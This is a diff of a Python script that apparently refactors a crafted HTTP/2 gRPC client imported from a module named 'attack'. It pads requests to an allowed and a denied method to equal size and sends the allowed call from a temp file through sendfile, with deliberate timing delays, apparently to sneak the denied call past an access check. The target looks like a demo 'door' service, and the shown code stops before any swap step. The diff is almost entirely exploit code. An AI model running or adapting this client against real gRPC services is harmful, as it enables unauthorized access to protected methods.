@@ -27,47 +27,28 @@ import sys
 import tempfile
 import time
 
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+# the crafted client's frames (table-neutral literals, a padding header)
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from attack import PREFACE, SETTINGS, call, headers_block  # noqa: E402
 
 
-def frame(ftype, flags, stream, payload):
-    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + stream.to_bytes(4, "big") + payload
-
-
-def literal(name, value):
-    """a literal header field without indexing, new name (table-neutral)"""
-    assert len(name) < 127 and len(value) < 127
-    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
-
-
-def block(path, size):
-    """a request header block of exactly `size` bytes calling `path`"""
-    head = (b"\x83\x86"                                      # :method POST, :scheme http
-            + b"\x04" + bytes([len(path)]) + path            # :path, literal, indexed name
-            + b"\x01\x01x"                                   # :authority x
-            + b"\x0f\x10\x10application/grpc"                # content-type
-            + literal(b"te", b"trailers"))
-    pad = size - len(head) - len(literal(b"x-pad", b""))
-    assert 0 <= pad < 127, pad
-    return head + literal(b"x-pad", b"y" * pad)
-
-
-def call(path, size):
-    msg = b"\x00\x00\x00\x00\x02\x08\x01"  # gRPC frame: DoorRequest{door_id: 1}
-    return frame(1, 0x4, 1, block(path, size)) + frame(0, 0x1, 1, msg)
+def same_size_calls(allowed, denied):
+    """a call to each method, their header blocks padded to one length"""
+    size = max(len(headers_block(allowed, b"x")), len(headers_block(denied, b"x")))
+    # the padding header "x: <pad>" takes 4 + pad bytes of the block
+    first, second = (call(1, m, b"x", pad=size - len(headers_block(m, b"x"))) for m in (allowed, denied))
+    assert len(first) == len(second)
+    return first, second
 
 
 def client(host, port, allowed, denied, after="0.2"):
-    allowed, denied = allowed.encode(), denied.encode()
-    size = 110
-    first, second = call(allowed, size), call(denied, size)
-    assert len(first) == len(second)
+    first, second = same_size_calls(allowed.encode(), denied.encode())
     with tempfile.TemporaryFile(dir="/var/tmp") as f:
         f.write(first)
         f.flush()
         s = socket.create_connection((host, int(port)))
         s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-        s.sendall(PREFACE + frame(4, 0, 0, b""))
+        s.sendall(PREFACE + SETTINGS)
         time.sleep(0.1)  # the server has read these: the connection is walked
         n = os.sendfile(s.fileno(), f.fileno(), 0, len(first))
         time.sleep(float(after))
